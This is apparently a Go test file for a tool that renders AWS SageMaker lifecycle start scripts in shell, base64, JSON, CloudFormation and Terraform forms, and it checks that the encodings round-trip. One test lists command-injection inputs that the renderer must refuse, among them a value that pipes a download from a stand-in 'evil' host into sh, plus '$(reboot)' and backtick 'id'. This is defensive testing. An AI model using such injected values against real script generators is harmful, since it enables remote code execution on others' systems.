package lifecycle

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/ctattrib/ctattrib/internal/golden"
)

var (
	instanceParams = Params{Instance: "test-2", RoleARN: testRole, Region: "us-east-1"}
	genericParams  = Params{}
)

// scriptCases are the scripts every check below runs on.
var scriptCases = []struct {
	name string
	p    Params
}{
	{"instance", instanceParams},
	{"instance-no-region", Params{Instance: "test-2", RoleARN: testRole}},
	{"generic", genericParams},
	{"generic-region", Params{Region: "eu-west-1"}},
}

func TestRenderGolden(t *testing.T) {
	for _, sc := range scriptCases {
		for _, f := range Formats {
			if sc.name != "instance" && sc.name != "generic" && f != FormatShell {
				continue
			}
			t.Run(sc.name+"/"+string(f), func(t *testing.T) {
				var buf bytes.Buffer
				if err := Render(&buf, f, sc.p); err != nil {
					t.Fatalf("Render(%s, %+v) = %v", f, sc.p, err)
				}
				golden.Check(t, filepath.Join("testdata", sc.name+"."+string(f)+".golden"), buf.Bytes())
			})
		}
	}
}

// TestScriptShape checks what SageMaker and the issue require of every
// script: shebang, strict mode, LF only, size.
func TestScriptShape(t *testing.T) {
	for _, sc := range scriptCases {
		t.Run(sc.name, func(t *testing.T) {
			script, err := Script(sc.p)
			if err != nil {
				t.Fatal(err)
			}
			s := string(script)
			if !strings.HasPrefix(s, "#!/bin/bash\n") {
				t.Errorf("script does not start with #!/bin/bash")
			}
			if !strings.Contains(s, "\nset -euo pipefail\n") {
				t.Errorf("script lacks set -euo pipefail")
			}
			if strings.Contains(s, "\r") {
				t.Errorf("script contains CR")
			}
			if n := len(base64.StdEncoding.EncodeToString(script)); len(script) > MaxScriptBytes || n > 16384 {
				t.Errorf("script is %d bytes, %d in base64; SageMaker takes at most 16384", len(script), n)
			}
		})
	}
}

func TestScriptLint(t *testing.T) {
	shellcheck, err := exec.LookPath("shellcheck")
	if err != nil {
		if os.Getenv("CI") != "" {
			t.Fatal("shellcheck is not installed; .ci/install-lifecycle.sh installs it")
		}
		t.Log("shellcheck is not installed (apt-get install shellcheck); running bash -n only")
	}
	for _, sc := range scriptCases {
		t.Run(sc.name, func(t *testing.T) {
			script, err := Script(sc.p)
			if err != nil {
				t.Fatal(err)
			}
			path := filepath.Join(t.TempDir(), "on-start.sh")
			if err := os.WriteFile(path, script, 0o755); err != nil {
				t.Fatal(err)
			}
			if out, err := exec.Command("bash", "-n", path).CombinedOutput(); err != nil {
				t.Errorf("bash -n: %v\n%s", err, out)
			}
			if shellcheck != "" {
				if out, err := exec.Command(shellcheck, "--shell=bash", "--severity=style", path).CombinedOutput(); err != nil {
					t.Errorf("shellcheck: %v\n%s", err, out)
				}
			}
		})
	}
}

// TestRenderFormatsCarryScript decodes each wrapper format back to the
// script: the wrapping must not change a byte.
func TestRenderFormatsCarryScript(t *testing.T) {
	script, err := Script(instanceParams)
	if err != nil {
		t.Fatal(err)
	}
	render := func(f Format) string {
		var buf bytes.Buffer
		if err := Render(&buf, f, instanceParams); err != nil {
			t.Fatalf("Render(%s) = %v", f, err)
		}
		return buf.String()
	}

	b64, err := base64.StdEncoding.DecodeString(strings.TrimSuffix(render(FormatBase64), "\n"))
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(script), string(b64)); diff != "" {
		t.Errorf("base64 format (-script +decoded):\n%s", diff)
	}

	var doc struct {
		NotebookInstanceLifecycleConfigName string
		OnStart                             []struct{ Content string }
	}
	if err := json.Unmarshal([]byte(render(FormatJSON)), &doc); err != nil {
		t.Fatal(err)
	}
	if doc.NotebookInstanceLifecycleConfigName != "ctattrib-test-2" || len(doc.OnStart) != 1 {
		t.Fatalf("json format = %+v", doc)
	}
	fromJSON, _ := base64.StdEncoding.DecodeString(doc.OnStart[0].Content)
	if diff := cmp.Diff(string(script), string(fromJSON)); diff != "" {
		t.Errorf("json format (-script +decoded):\n%s", diff)
	}

	// The CloudFormation literal block: every line after "!Base64 |" that is
	// empty or indented by 12 spaces, with the indentation removed.
	cfn := render(FormatCloudFormation)
	_, block, _ := strings.Cut(cfn, "!Base64 |\n")
	var fromCFN strings.Builder
	for _, line := range strings.SplitAfter(block, "\n") {
		if line == "\n" {
			fromCFN.WriteString(line)
			continue
		}
		rest, ok := strings.CutPrefix(line, strings.Repeat(" ", 12))
		if !ok {
			break
		}
		fromCFN.WriteString(rest)
	}
	if diff := cmp.Diff(string(script), fromCFN.String()); diff != "" {
		t.Errorf("cloudformation block (-script +block):\n%s", diff)
	}

	tf := render(FormatTerraform)
	_, body, _ := strings.Cut(tf, "<<"+terraformHeredoc+"\n")
	body, _, _ = strings.Cut(body, "\n"+terraformHeredoc+"\n")
	body = strings.NewReplacer("$${", "${", "%%{", "%{").Replace(body + "\n")
	if diff := cmp.Diff(string(script), body); diff != "" {
		t.Errorf("terraform heredoc (-script +heredoc):\n%s", diff)
	}
	if strings.Contains(strings.ReplaceAll(tf, "$${", ""), "${") {
		t.Errorf("terraform output has an unescaped ${ that Terraform would interpolate")
	}
}

func TestRenderRefusesHostileValues(t *testing.T) {
	hostile := []Params{
		{Instance: "x'; curl evil|sh; '", RoleARN: testRole},
		{Instance: "test-2", RoleARN: "arn:aws:iam::111122223333:role/$(reboot)"},
		{Instance: "test-2", RoleARN: testRole + "\n[profile x]"},
		{Instance: "test-2", RoleARN: testRole, Region: "us-east-1`id`"},
		{Instance: "test-2", RoleARN: testRole, ConfigName: "a;b"},
	}
	for _, p := range hostile {
		var buf bytes.Buffer
		err := Render(&buf, FormatShell, p)
		if err == nil {
			t.Errorf("Render(%+v) = nil, want an error", p)
		}
		if buf.Len() != 0 {
			t.Errorf("Render(%+v) wrote %d bytes before refusing", p, buf.Len())
		}
	}
	if err := Render(new(bytes.Buffer), Format("yaml"), instanceParams); err == nil {
		t.Errorf("Render(yaml) = nil, want an error")
	}
}

func TestShellQuote(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", "''"},
		{"test-2", "'test-2'"},
		{"it's", `'it'\''s'`},
	}
	for _, tt := range tests {
		if got := shellQuote(tt.in); got != tt.want {
			t.Errorf("shellQuote(%q) = %s, want %s", tt.in, got, tt.want)
		}
		out, err := exec.Command("bash", "-c", "printf %s "+shellQuote(tt.in)).Output()
		if err != nil || string(out) != tt.in {
			t.Errorf("bash printf %s = %q, %v, want %q", shellQuote(tt.in), out, err, tt.in)
		}
	}
}

// TestTerraformEvaluates has Terraform itself format-check the resource and
// evaluate its heredoc, which must give the script byte for byte.
func TestTerraformEvaluates(t *testing.T) {
	tf, err := exec.LookPath("terraform")
	if err != nil {
		t.Skip("terraform is not installed; TestRenderFormatsCarryScript still checks the heredoc")
	}
	script, err := Script(instanceParams)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := Render(&buf, FormatTerraform, instanceParams); err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	run := func(args ...string) []byte {
		t.Helper()
		cmd := exec.CommandContext(t.Context(), tf, args...)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "TF_IN_AUTOMATION=1", "CHECKPOINT_DISABLE=1", "TF_CLI_CONFIG_FILE=/dev/null")
		var stderr bytes.Buffer
		cmd.Stderr = &stderr
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("terraform %s: %v\n%s%s", strings.Join(args, " "), err, out, stderr.Bytes())
		}
		return out
	}
	if err := os.WriteFile(filepath.Join(dir, "lifecycle.tf"), buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	run("fmt", "-check", "-diff", "lifecycle.tf")

	// Evaluating the resource needs the AWS provider; the same expression
	// as an output needs nothing.
	expr := buf.String()
	expr = expr[strings.Index(expr, "base64encode(") : strings.LastIndex(expr, ")")+1]
	if err := os.Remove(filepath.Join(dir, "lifecycle.tf")); err != nil {
		t.Fatal(err)
	}
	out := "output \"content\" {\n  value = " + expr + "\n}\n"
	if err := os.WriteFile(filepath.Join(dir, "out.tf"), []byte(out), 0o644); err != nil {
		t.Fatal(err)
	}
	run("init", "-input=false", "-backend=false")
	run("apply", "-auto-approve", "-input=false", "-state="+filepath.Join(dir, "state"))
	got, err := base64.StdEncoding.DecodeString(string(run("output", "-raw", "-state="+filepath.Join(dir, "state"), "content")))
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(script), string(got)); diff != "" {
		t.Errorf("terraform evaluated on_start (-script +got):\n%s", diff)
	}
}
